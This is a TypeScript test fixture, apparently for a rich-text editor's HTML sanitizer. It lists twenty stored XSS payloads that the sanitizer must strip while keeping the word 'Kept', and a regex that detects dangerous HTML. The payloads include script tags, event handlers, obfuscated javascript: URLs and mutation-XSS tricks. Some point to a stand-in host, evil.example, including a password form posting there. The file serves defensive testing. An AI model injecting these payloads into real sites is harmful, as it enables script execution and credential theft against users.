/**
 * Stored XSS payloads that have worked against similar tools. Each contains the word `Kept`, which must
 * remain after sanitizing.
 */
export const hostileTexts = [
  '<p>Kept<script>alert(1)</script></p>',
  '<p>Kept<img src=x onerror=alert(1)></p>',
  '<p onclick="alert(1)" onmouseover=alert(1) style="position:fixed;inset:0" class="fixed inset-0">Kept</p>',
  '<svg onload=alert(1)><p>Kept</p><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><p>Kept</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Kept</p>',
  '<p>Kept <a href="javascript:alert(1)">a</a><a href="java\tscript:alert(1)">b</a><a href="java\nscript:alert(1)">c</a></p>',
  '<p>Kept <a href="java&#9;script:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href="java&NewLine;script&colon;alert(1)">c</a></p>',
  '<p>Kept <a href=" &#1; JaVaScRiPt:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a href="vbscript:x">c</a></p>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form><p>Kept</p>',
  '<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><p>Kept</p>',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style><p>Kept</p>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Kept</p>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><p>Kept</p>',
  '<div data-block-type="callout-component" data-background="red;}body{}" onclick="alert(1)"><p>Kept</p></div>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example/a.png" onclick="alert(1)">Kept</td></tr></table>',
  '<details open ontoggle=alert(1)><summary onclick="alert(1)">Kept</summary></details>',
  '<p>Kept <mention-component entity_identifier="javascript:alert(1)" entity_name="user_mention" onclick="alert(1)"></mention-component></p>',
  '<p>Kept</p><image-component src="javascript:alert(1)" onclick="alert(1)"></image-component>',
  '<x-y onclick="alert(1)"><p>Kept</p></x-y><p is="x-y" slot="a" part="b">Kept</p>',
]

/** Matches HTML that could run scripts, load resources or apply styles. Escaped brackets in plain text do not match. */
export const dangerousHtml =
  /<(script|iframe|svg|math|img|object|embed|base|meta|link|style|form|button|template|noscript|video|audio|x-y)\b|<[^>]*\s(on\w+|style|srcdoc|formaction|background|is|slot)\s*=|(href|src|entity_identifier)="\s*(java|data|vb)|evil\.example"/i
